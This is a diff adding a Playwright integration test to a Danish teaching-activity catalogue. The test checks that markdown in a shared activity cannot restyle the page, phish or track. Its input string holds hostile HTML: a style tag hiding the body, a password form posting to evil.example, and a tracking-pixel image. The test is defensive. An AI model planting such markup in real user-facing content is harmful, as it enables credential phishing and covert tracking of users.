@@ -108,4 +108,35 @@ class CatalogueJourneyIT extends BrowserTestBase {
         page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Søg").setExact(true)).fill("Annes robotdans");
         assertThat(page.getByText("Ingen aktiviteter passer til din søgning.")).isVisible();
     }
+
+    /** Issue 11, item 2: what a colleague reads in a shared activity can neither restyle, phish nor track. */
+    @Test
+    void hostileMarkdownInASharedActivityIsOnlyText() {
+        signIn("anne", PASSWORD);
+        open("katalog");
+        page.locator(".opdag-activity-card h2 a").first().click();
+        page.getByText("Kopiér og tilpas som din egen").click();
+        expectHeading("Skriv din egen aktivitet");
+        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Titel").setExact(true))
+                .fill("Annes delte krog");
+        page.getByRole(AriaRole.TEXTBOX, new Page.GetByRoleOptions().setName("Forberedelse").setExact(true))
+                .fill("**Læs op.**\n\n<style>body { display: none }</style>\n\n"
+                        + "<form action=\"https://evil.example/\"><input type=\"password\" name=\"p\"></form>\n\n"
+                        + "![spor](https://tracker.example/pixel.png)");
+        page.getByLabel("Del med kollegerne på min skole").check();
+        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Gem aktiviteten")).click();
+        expectHeading("Annes delte krog");
+        String address = page.url();
+
+        context.clearCookies();
+        signIn("bo", PASSWORD);
+        page.navigate(address);
+        expectHeading("Annes delte krog");
+        assertThat(page.locator(".opdag-markdown strong", new Page.LocatorOptions().setHasText("Læs op.")))
+                .isVisible();
+        assertThat(page.locator("style", new Page.LocatorOptions().setHasText("display: none"))).hasCount(0);
+        assertThat(page.locator("form, input[type=password]")).hasCount(0);
+        assertThat(page.locator("img[src*='tracker.example']")).hasCount(0);
+        assertThat(page.locator("body")).isVisible();
+    }
 }
